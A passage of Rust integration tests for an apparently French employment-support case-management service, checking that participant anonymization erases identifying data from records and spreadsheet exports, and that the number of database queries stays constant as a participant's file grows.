        done["data"]["anonymizeParticipant"]["anonymizedAt"]
    );
    assert_eq!(f["profile"]["birthYear"], 1984);
    assert_eq!(f["profile"]["sex"], "FEMALE");
    assert_eq!(
        list(&f, "eligibilities")[0]["criteria"],
        json!([]),
        "proofs go"
    );
    assert_eq!(list(&f, "eligibilities")[0]["checkedOn"], "2025-05-15");
    assert!(list(&f, "exits")[0]["justification"].is_null());
    assert_eq!(list(&f, "exits")[0]["outcome"], "OTHER_POSITIVE");
    assert_eq!(list(&f, "hours").len(), 4, "the hours stay");
    assert_eq!(list(&f, "placements").len(), 1);
    let text = f.to_string();
    for gone in [FIRST, LAST, BORN, "PRISON_LEAVER", WHY, PROOF_REF] {
        assert!(!text.contains(gone), "{gone} still in {text}");
    }
    // Reads of the file (before and after) stay in the log.
    assert_eq!(list(&f, "accesses").len(), 1);
    let (base, stop) = app.serve(&Config::default()).await;
    let (status, bytes) = fetch(&base, f["download"]["xlsx"].as_str().unwrap(), Some(&token)).await;
    assert_eq!(status, 200);
    let book = read_book(&bytes);
    let all = book.all_text();
    for gone in [FIRST, LAST, "PRISON_LEAVER", WHY, PROOF_REF] {
        assert!(!all.contains(gone), "{gone} still in the workbook");
    }
    assert!(
        book.field("Identité", "Identité")
            .starts_with("effacée par anonymisation")
    );
    assert_eq!(book.field("Identité", "Année de naissance"), "1984");
    assert_eq!(book.rows("Heures").len(), 4);
    stop.send(()).ok();
}

/// `n` placements of ten hours a week on the world's lot, each with two months of hours (one
/// validated), an immersion and a convention: the sections of a file grow with `n`.
async fn person_with(app: &TestApp, w: &World, last: &str, n: usize) -> String {
    let person = app.participant(&w.territory, last).await;
    for k in 0..n {
        let pl = id_at(
            &app.ok(
                CREATE_PLACEMENT,
                json!({"i": {"participantId": person, "marketId": w.market, "lotId": w.lot,
                    "modality": "DIRECT_HIRE", "employerId": w.company, "contractType": "CDD",
                    "startDate": "2026-02-01", "endDate": "2026-12-31", "weeklyHours": "10"}}),
            )
            .await,
            "createPlacement",
        );
        let e = app.record_ok(&pl, "2026-03", "40").await;
        app.ok(VALIDATE, json!({"i": {"entryIds": [e]}})).await;
        app.record_ok(&pl, "2026-04", "41").await;
        app.ok(
            "mutation($i: RecordImmersionInput!) { recordImmersion(input: $i) { id } }",
            json!({"i": {"placementId": pl, "hostName": format!("Accueil {k}"),
                "startDate": "2026-05-04", "endDate": "2026-05-08"}}),
        )
        .await;
        app.ok(
            "mutation($i: CreateConventionInput!) { createConvention(input: $i) { id } }",
            json!({"i": {"territoryId": w.territory, "kind": "IMMERSION",
                "reference": format!("IMM-{last}-{k}"), "title": "Immersion",
                "placementId": pl, "startDate": "2026-05-04", "endDate": "2026-05-08"}}),
        )
        .await;
    }
    person
}

async fn statements_do_not_grow_with_the_file(app: &TestApp) {
    let w = app.world().await;
    let fac = app
        .user("fac@t.fr", Role::Facilitator, None, &[&w.territory])
        .await;
    let one = person_with(app, &w, "Payet", 1).await;
    let many = person_with(app, &w, "Grondin", 4).await;
    // Each read before counting, so both logs hold one earlier read.
    file_of(app, &fac, &one).await;
    file_of(app, &fac, &many).await;
    let mut counts = Vec::new();
    for (id, n) in [(&one, 1), (&many, 4)] {
        app.reset_statements();
        let f = file_of(app, &fac, id).await;
        counts.push(app.statements());
        assert_eq!(list(&f, "placements").len(), n);
        assert_eq!(list(&f, "hours").len(), 2 * n);
        assert_eq!(list(&f, "immersions").len(), n);
        assert_eq!(list(&f, "conventions").len(), n);
        assert_eq!(list(&f, "accesses").len(), 2);
    }
    assert_eq!(
        counts[0], counts[1],
        "one placement or four: the same statements"
    );
    assert!(counts[0] <= 25, "{} statements for one file", counts[0]);
}
